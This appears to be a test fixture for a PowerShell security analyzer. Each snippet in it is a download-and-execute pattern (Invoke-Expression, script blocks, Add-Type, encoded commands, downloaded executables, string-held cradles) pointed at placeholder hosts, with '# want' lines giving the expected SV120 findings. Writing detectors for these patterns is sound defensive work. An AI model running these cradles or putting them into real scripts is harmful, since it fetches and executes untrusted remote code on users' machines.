# Workstation bootstrap
$ErrorActionPreference = 'Stop'

# in memory, through a client object
$c = New-Object System.Net.WebClient
$s = $c.DownloadString('http://198.51.100.50/s.ps1') # want "critical SV120: .*198[.]51[.]100[.]50.*Invoke-Expression"
Invoke-Expression $s

# the response's content, run as a script block
$resp = Invoke-WebRequest -Uri https://cdn.build-mirror.invalid/boot.ps1 -UseBasicParsing # want "high SV120: .*cdn[.]build-mirror[.]invalid.*script block"
$code = $resp.Content
& ([scriptblock]::Create($code))

# bytes decoded, then dot-sourced
$wc2 = [Net.WebClient]::new()
$bytes = $wc2.DownloadData("https://pastebin.com/raw/q1w2e3") # want "critical SV120: .*pastebin[.]com.*script block"
$text = [Text.Encoding]::UTF8.GetString($bytes)
. ([scriptblock]::Create($text))

# C# source compiled into the session
$http = New-Object System.Net.Http.HttpClient
$src = $http.GetStringAsync('https://203.0.113.7/agent.cs').Result # want "critical SV120: .*203[.]0[.]113[.]7.*Add-Type"
Add-Type -TypeDefinition $src -Language CSharp

# handed to a new PowerShell
$enc = irm https://cdn.build-mirror.invalid/p.txt # want "high SV120: .*powershell"
powershell -NoProfile -EncodedCommand $enc

# the address held in a variable
$u = 'http://198.51.100.50/z.ps1'
$z = irm $u # want "critical SV120: .*198[.]51[.]100[.]50.*Invoke-Expression"
iex($z)

# saved to a file, then run
$wc3 = New-Object Net.WebClient
$wc3.DownloadFile('http://198.51.100.50/a.exe', "$env:TEMP\a.exe") # want "critical SV120: .*downloads a file.*198[.]51[.]100[.]50.*Start-Process"
Start-Process "$env:TEMP\a.exe"

$dst = "C:\tools\b.exe"
Start-BitsTransfer -Source https://files.build-mirror.invalid/b.exe -Destination $dst # want "high SV120: .*downloads a file.*files[.]build-mirror[.]invalid"
& $dst /silent

Invoke-WebRequest https://cdn.build-mirror.invalid/m.ps1 -OutFile m.ps1 # want "high SV120: .*downloads a file.*powershell"
powershell -ExecutionPolicy Bypass -File .\m.ps1

# a cradle held in a string is still code when something runs the string
$cradle = "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.50/c.ps1')" # want "critical SV120: .*PowerShell download cradle"
powershell -NoProfile -Command $cradle
$later = 'iex (iwr https://cdn.build-mirror.invalid/d.ps1 -UseBasicParsing)' # want "high SV120: .*PowerShell download cradle"
Invoke-Expression $later
